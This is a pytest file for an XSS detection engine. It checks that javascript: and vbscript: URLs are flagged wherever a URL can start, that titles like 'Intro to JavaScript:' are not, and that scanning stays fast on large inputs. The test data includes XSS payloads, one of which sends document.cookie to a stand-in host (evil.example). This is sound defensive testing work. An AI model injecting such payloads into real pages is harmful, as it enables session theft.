"""A ``javascript:`` (``vbscript:``, ``data:text/html``) URL counts where a URL can start: at the value's start after
blanks and control characters, after markup or code punctuation (``=``, quotes, ``(``, ``<``, ``[``, ``,``, ``;``,
``:``), or after a refresh delay. The same words in prose after a word, a dash or a bracket and a blank are a title
or a sentence, not a URL."""

from __future__ import annotations

import pytest

from bastion.detection import Context, Engine

ENGINE = Engine()


@pytest.mark.parametrize("value", [
    "javascript:fetch('//evil.example/'+document.cookie)",
    " \t javascript:open('//x.example')",
    "\x01javascript:open('//x.example')",
    '<a href= javascript:open("//x.example")>go</a>',
    "<img src=x><a href='vbscript:msgbox(1)'>x</a>",
    "[docs](javascript:open('//x.example'))",
    "[docs]: javascript:open('//x.example')",
    "1; javascript:open('//x.example')",
    "5 javascript:open('//x.example')",
    '{"avatar": "javascript:open(\'//x.example\')"}',
    "return_to=javascript:open('//x.example')",
    "background:url( javascript:open('//x.example'))",
    "/javascript:open('//x.example')",
    "%0Ajavascript:open('//x.example')",
])
def test_a_script_url_where_a_url_starts_is_refused(value: str) -> None:
    found = ENGINE.inspect(value, Context("query", "next"))
    assert found is not None and found.rule.attack == "xss"


@pytest.mark.parametrize("value", [
    "Intro to JavaScript: closures(part 1)",
    "Chapter 4 - JavaScript: functions(), scope and this",
    "Week 2 (recap) JavaScript: map() and filter()",
    "Modern JavaScript: [arrays] and {objects}",
    "Learn JavaScript: 'strict mode' explained",
    "Legacy VBScript: MsgBox(\"hi\") examples",
])
def test_a_language_name_in_a_title_is_not_a_script_url(value: str) -> None:
    assert ENGINE.inspect(value, Context("body", "title")) is None


def test_many_schemes_after_words_stay_linear_on_128_kib() -> None:
    """Each scheme after a word looks back for a command-line option: over a bounded window, not the whole prefix
    (which made ``data:image/svg+xml,x `` repeated over 128 KiB take 8 s of CPU)."""
    import time

    value = ("Intro to JavaScript: x(1) " * 6000)[: 128 * 1024]
    start = time.process_time()
    ENGINE.inspect(value, Context("body", "note"))
    assert time.process_time() - start < 2.0
